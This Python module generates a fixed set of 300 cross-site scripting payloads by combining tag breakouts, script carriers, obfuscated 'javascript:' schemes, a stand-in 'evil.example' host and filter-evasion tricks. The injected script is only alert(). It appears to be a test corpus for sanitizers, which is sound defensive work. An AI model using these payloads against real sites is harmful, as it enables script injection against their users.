"""Three hundred texts that try to run a script, from a grammar.

A text leaves its context (a breakout), has the script in some element (a carrier), and may be
written so that a filter misses it (a disguise).
"""

import itertools
import random

BREAKOUTS = (
    "",
    '">',
    "'>",
    '" ',
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</p></div>",
    "\\';",
    "`-",
)
# {run} is the script, {scheme} a URL scheme that runs the text after it.
CARRIERS = (
    "<script>{run}</script>",
    "<script src=data:,{run}></script>",
    "<img src=x onerror={run}>",
    "<img srcset=x onerror='{run}' alt=x>",
    "<svg onload={run}></svg>",
    "<svg><script>{run}</script></svg>",
    "<svg><a xlink:href='{scheme}{run}'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<math><mi xlink:href='{scheme}{run}'>x</mi></math>",
    "<a href='{scheme}{run}'>x</a>",
    '<a href="{scheme}{run}" target=_self>x</a>',
    "<iframe src='{scheme}{run}'></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data='{scheme}{run}'></object>",
    "<embed src='{scheme}{run}'>",
    "<form action='{scheme}{run}'><button>x</button></form>",
    "<button formaction='{scheme}{run}'>x</button>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<input autofocus onfocus={run}>",
    "<body onload={run}>",
    "<meta http-equiv=refresh content='0;url={scheme}{run}'>",
    "<link rel=stylesheet href='{scheme}{run}'>",
    "<base href='{scheme}{run}//'>",
    "<style>@import '{scheme}{run}';</style>",
    "<div style=\"background:url('{scheme}{run}')\" onmouseover={run}>x</div>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<marquee onstart={run}>x</marquee>",
    "<table background='{scheme}{run}'><tr><td>x</td></tr></table>",
    "<![CDATA[<script>{run}</script>]]>",
    "<!--><script>{run}</script>-->",
    "<?xml-stylesheet href='{scheme}{run}'?>",
    "{{{{constructor.constructor('{run}')()}}}}",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\x01javascript:",
    " javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript&#58;",
    "java&NewLine;script:",
    "data:text/html,<script>{run}</script>",
    "vbscript:",
    "//evil.example/",
)
DISGUISES = ("plain", "upper", "slashes", "entities", "twice", "nul", "unclosed", "newlines")


def disguise(text: str, disguise_as: str) -> str:
    """Return a payload in a form that a filter may miss. `disguise_as` is one of DISGUISES."""
    changed = {
        "plain": text,
        "upper": text.replace("<s", "<S").replace(" on", " ON").replace("img", "iMg"),
        "slashes": text.replace(" on", "/on").replace(" src", "/src"),
        "entities": text.replace("<", "&lt;").replace(">", "&#62;"),
        "twice": text.replace("<s", "<s<s").replace("script>", "scr<script>ipt>"),
        "nul": text.replace("script", "scr\x00ipt"),
        "unclosed": text.rstrip(">"),
        "newlines": text.replace(" ", "\n\t"),
    }
    return changed[disguise_as]


def list_payloads(count: int = 300) -> list[str]:
    """Return `count` payloads in which every part of the grammar occurs, always the same ones."""
    chance = random.Random(5)  # noqa: S311  the seed makes them the same ones
    every = list(itertools.product(BREAKOUTS, CARRIERS, SCHEMES, DISGUISES))
    chosen = {
        (
            BREAKOUTS[n % len(BREAKOUTS)],
            CARRIERS[n % len(CARRIERS)],
            SCHEMES[n % len(SCHEMES)],
            DISGUISES[n % 8],
        )
        for n in range(3 * len(CARRIERS))
    }
    chosen |= set(chance.sample(every, 2 * count))
    distinct: dict[str, None] = {}
    for number, (out, carrier, scheme, disguise_as) in enumerate(
        sorted(chosen, key=lambda _: chance.random())
    ):
        run = f"alert({number})"
        distinct.setdefault(
            disguise(out + carrier.format(run=run, scheme=scheme.format(run=run)), disguise_as)
        )
    needed = [text for text in distinct if text][:count]
    assert len(needed) == count
    return needed
